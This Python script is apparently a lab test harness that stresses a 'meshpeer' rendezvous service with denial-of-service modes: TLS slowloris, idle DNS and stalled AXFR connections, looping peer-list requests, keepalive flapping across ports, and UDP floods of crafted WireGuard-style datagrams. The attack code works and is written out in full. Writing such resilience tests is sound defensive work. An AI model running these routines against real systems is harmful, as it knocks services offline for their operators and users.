"""A stranger or a member abusing the rendezvous, one way at a time (a script for lab tests).

    abuser.py slowloris   HOST PORT COUNT      TLS, then a header line every 5 s, never done
    abuser.py dns-idle    HOST PORT COUNT      TCP connections to DNS that never ask
    abuser.py axfr-stall  HOST PORT ZONE COUNT  ask for the zone, never read the answer
    abuser.py snapshots   TOKEN                join, then ask for full peer lists in a loop
    abuser.py flap        HOST PORT TOKEN      a member's keepalives from 16 ports
    abuser.py udp-flood   HOST PORT KIND TOKEN  datagrams to the WireGuard port, as fast as one
                                               socket sends them; KIND: junk, initiation
                                               (mac1 valid), transport (made-up indexes),
                                               full (MAX_DATAGRAM bytes), oversized (one more)
and two ordinary members for the stop test:
    abuser.py watchers    TOKEN COUNT          COUNT members, each holding a long poll
    abuser.py member      HOST PORT TOKEN      a handshake and a keepalive; prints the port

Prints {"holding": N} (or {"running": ...}) once the abuse is in place, then a line a second
with what it has, and runs until killed. Bounded: every loop has a count or runs until the
lab stops it.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import socket
import ssl
import struct
import sys
import time

import aiohttp
import dns.message
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey

from meshpeer.common import proof, tokens
from meshpeer.common.aiohttp_pinning import client_ssl
from meshpeer.rendezvous import noise, wire
from meshpeer.rendezvous.initiator import Initiator


def say(**fields: object) -> None:
    print(json.dumps(fields), flush=True)


async def join(
    session: aiohttp.ClientSession, token_text: str, name: str
) -> tuple[X25519PrivateKey, str]:
    """A member's way in: a signed join; its private key and credential."""
    token = tokens.decode(token_text)
    key = X25519PrivateKey.generate()
    signed = proof.sign_join(
        token_text, key, token.rendezvous_key, name, (), int(time.time() * 1e3)
    )
    url = f"{token.api_url}/v1/join"
    async with session.post(url, json=signed.to_json(), ssl=client_ssl(token.tls_pin)) as answer:
        sealed = (await answer.json())["sealed_credential"]
    keys = proof.peer_keys(key, token.rendezvous_key)
    return key, proof.unseal(keys, signed.public_key, sealed)


async def slowloris(host: str, port: int, count: int) -> None:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    writers = []
    for _ in range(count):
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection(host, port, ssl=context), 5)
        except (OSError, TimeoutError):
            continue
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        writers.append(writer)
    say(holding=len(writers))
    while True:
        await asyncio.sleep(5)
        for writer in writers:
            if not writer.is_closing():
                writer.write(b"X-Slow: 1\r\n")
        say(open=sum(1 for writer in writers if not writer.is_closing()))


async def dns_idle(host: str, port: int, count: int) -> None:
    writers = []
    for _ in range(count):
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
        except (OSError, TimeoutError):
            continue
        writers.append(writer)
    say(holding=len(writers))
    while True:
        await asyncio.sleep(1)
        say(open=sum(1 for writer in writers if not writer.is_closing()))


def axfr_stall(host: str, port: int, zone: str, count: int) -> None:
    query = dns.message.make_query(zone, "AXFR").to_wire()
    held = []
    for _ in range(count):
        sock = socket.create_connection((host, port), timeout=5)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # and never read
        sock.sendall(struct.pack("!H", len(query)) + query)
        held.append(sock)
    say(holding=len(held))
    while True:
        time.sleep(1)


async def snapshots(token_text: str) -> None:
    token = tokens.decode(token_text)
    api_url, ssl_setting = token.api_url, client_ssl(token.tls_pin)
    async with aiohttp.ClientSession() as session:
        _, credential = await join(session, token_text, "snapshotter")
        headers = {"Authorization": f"Bearer {credential}"}
        say(running="snapshots")
        statuses: dict[int, int] = {}
        last = time.monotonic()
        while True:
            async with session.get(
                f"{api_url}/v1/watch?timeout=0", headers=headers, ssl=ssl_setting
            ) as answer:
                await answer.read()
                statuses[answer.status] = statuses.get(answer.status, 0) + 1
            if time.monotonic() - last >= 1:
                say(statuses=statuses)
                last = time.monotonic()


async def flap(host: str, port: int, token_text: str) -> None:
    """A member: joins, then handshakes and sends keepalives from 16 ports in turn."""
    token = tokens.decode(token_text)
    async with aiohttp.ClientSession() as session:
        private_key, _ = await join(session, token_text, "flapper")
    # One session, its keepalives sent from 16 sockets in turn: each one authenticates, and
    # each comes from another NAT mapping as far as the rendezvous can tell.
    sockets = []
    for _ in range(16):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind(("0.0.0.0", 0))  # noqa: S104 - a lab host's own sockets
        sock.settimeout(2)
        sockets.append(sock)
    initiator = Initiator(private_key, token.rendezvous_key)
    sockets[0].sendto(initiator.initiation(time.time()), (host, port))
    initiator.receive(sockets[0].recv(2048))
    say(running="flap", ports=len(sockets))
    sent = 0
    while True:
        for sock in sockets:
            sock.sendto(initiator.keepalive(), (host, port))
            sent += 1
        await asyncio.sleep(0.01)
        if sent % 1600 == 0:
            say(sent=sent)


async def watchers(token_text: str, count: int) -> None:
    """Members that long-poll as agents do: again at once after each answer, until the server
    is gone. Prints how each ended: its answers, then the error that ended it."""
    token = tokens.decode(token_text)
    ssl_setting = client_ssl(token.tls_pin)
    async with aiohttp.ClientSession() as session:
        credentials = [(await join(session, token_text, f"watcher{n}"))[1] for n in range(count)]

        async def poll(credential: str) -> list[str]:
            headers, seen, epoch, since = {"Authorization": f"Bearer {credential}"}, [], "", ""
            while True:
                url = f"{token.api_url}/v1/watch?timeout=60"
                url += f"&epoch={epoch}&since={since}" if epoch else "&timeout=0"
                try:
                    async with session.get(url, headers=headers, ssl=ssl_setting) as answer:
                        state = await answer.json()
                        seen.append(str(answer.status))
                except aiohttp.ClientError as error:
                    return [*seen, type(error).__name__]
                epoch, since = state["epoch"], state["revision"]

        polls = [asyncio.create_task(poll(credential)) for credential in credentials]
        await asyncio.sleep(1)
        say(holding=sum(1 for task in polls if not task.done()))
        ends = await asyncio.gather(*polls)
        say(ended=[[*sorted(set(seen[:-1])), seen[-1]] for seen in ends])


async def member(host: str, port: int, token_text: str) -> None:
    """A member: a handshake and a keepalive; on SIGUSR1 a keepalive from another port, as a
    NAT that rebinds would send it. Prints each port it sent from."""
    token = tokens.decode(token_text)
    async with aiohttp.ClientSession() as session:
        private_key, _ = await join(session, token_text, "member")
    initiator = Initiator(private_key, token.rendezvous_key)
    sock = _udp_socket()
    sock.sendto(initiator.initiation(time.time()), (host, port))
    initiator.receive(sock.recv(2048))
    sock.sendto(initiator.keepalive(), (host, port))  # this confirms the endpoint
    say(keepalive_from=sock.getsockname()[1])
    moved = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGUSR1, moved.set)
    await moved.wait()
    rebound = _udp_socket()
    rebound.sendto(initiator.keepalive(), (host, port))
    say(keepalive_from=rebound.getsockname()[1])
    await asyncio.Event().wait()  # until the lab stops it


def udp_flood(host: str, port: int, kind: str, token_text: str) -> None:
    """A stranger's datagrams to the WireGuard port, 256 kinds of each cycled, until killed."""
    mac1_key = noise.blake2s(noise.LABEL_MAC1, tokens.decode(token_text).rendezvous_key)
    datagrams = [_flood_datagram(kind, mac1_key) for _ in range(256)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    say(running=f"udp-flood {kind}")
    sent, last = 0, time.monotonic()
    while True:
        for datagram in datagrams:
            try:
                sock.sendto(datagram, (host, port))
                sent += 1
            except BlockingIOError:
                time.sleep(0.0001)  # a full buffer: the wire is as busy as it gets
        if time.monotonic() - last >= 1:
            say(sent=sent)
            last = time.monotonic()


def _flood_datagram(kind: str, mac1_key: bytes) -> bytes:
    if kind == "initiation":
        body = (1).to_bytes(4, "little") + os.urandom(wire.INITIATION_MAC1_END - 4)
        return body + noise.mac(mac1_key, body) + bytes(16)
    if kind == "transport":
        return (4).to_bytes(4, "little") + os.urandom(wire.TRANSPORT_MIN_SIZE + 64 - 4)
    if kind in ("full", "oversized"):
        size = wire.MAX_DATAGRAM + (kind == "oversized")
        return (4).to_bytes(4, "little") + os.urandom(size - 4)
    return os.urandom(100)  # junk


def _udp_socket() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", 0))  # noqa: S104 - a lab host's own socket
    sock.settimeout(2)
    return sock


def main() -> None:
    mode, *args = sys.argv[1:]
    if mode == "slowloris":
        asyncio.run(slowloris(args[0], int(args[1]), int(args[2])))
    elif mode == "dns-idle":
        asyncio.run(dns_idle(args[0], int(args[1]), int(args[2])))
    elif mode == "axfr-stall":
        axfr_stall(args[0], int(args[1]), args[2], int(args[3]))
    elif mode == "snapshots":
        asyncio.run(snapshots(args[0]))
    elif mode == "flap":
        asyncio.run(flap(args[0], int(args[1]), args[2]))
    elif mode == "udp-flood":
        udp_flood(args[0], int(args[1]), args[2], args[3])
    elif mode == "watchers":
        asyncio.run(watchers(args[0], int(args[1])))
    elif mode == "member":
        asyncio.run(member(args[0], int(args[1]), args[2]))
    else:
        raise SystemExit(f"unknown mode {mode}; see the docstring")


if __name__ == "__main__":
    main()
